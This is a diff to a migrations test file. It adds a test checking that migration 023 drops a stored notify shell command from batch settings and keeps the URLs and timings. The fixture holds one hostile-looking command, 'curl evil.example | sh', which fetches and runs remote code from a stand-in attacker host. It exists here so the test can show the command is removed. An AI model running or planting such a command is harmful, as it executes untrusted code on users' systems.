@@ -258,7 +258,7 @@ describe('migrations', () => {
     // batches keeps its `id` (the public id); no table or view names a batch by `batch_id` any more.
     expect(withColumn('batch_id')).toEqual([]);
     expect(withColumn('batch_num')).toEqual([
-      'batch_spend', 'decisions', 'file_copies', 'files', 'flights', 'item_counts', 'items', 'model_batches', 'model_runs', 'outbox', 'runs', 'threads', 'workers',
+      'batch_spend', 'decisions', 'file_copies', 'files', 'flights', 'item_counts', 'items', 'model_batches', 'model_runs', 'notify_commands', 'outbox', 'runs', 'threads', 'workers',
     ]);
     const fks = db
       .prepare("SELECT m.name AS child, f.\"table\" AS parent, group_concat(f.\"from\") AS cols, group_concat(f.\"to\") AS refs, f.on_delete FROM sqlite_master m JOIN pragma_foreign_key_list(m.name) f WHERE m.type = 'table' GROUP BY m.name, f.id ORDER BY m.name, f.\"table\"")
@@ -386,6 +386,22 @@ describe('migrations', () => {
     expect(await store.modelRun('b2', 'a')).toMatchObject({ batchId: 'b2', itemId: 'a', modelId: 'm' });
     expect(await store.modelBatch('b2')).toMatchObject({ batchId: 'b2', modelId: 'm' });
     await store.close();
+  });
+
+  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', () => {
+    const path = join(tempDir(), 'before-023.db');
+    const db = new Database(path);
+    migrate(db, before('023_'));
+    const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
+    const add = db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES (?, ?, '/q.csv', 'x', ?, 'now', 'now')");
+    add.run('b1', 'told', JSON.stringify({ concurrency: 2, notify }));
+    add.run('b2', 'quiet', JSON.stringify({ concurrency: 3 }));
+    expect(migrate(db)).toContain('023_notify_command_local');
+    const settings = db.prepare('SELECT id, settings FROM batches ORDER BY id').all() as { id: string; settings: string }[];
+    const { command: _gone, ...kept } = notify;
+    expect(settings.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
+    expect(settings[0]!.settings).not.toContain('evil');
+    db.close();
   });
 
   it('applies nothing twice', () => {
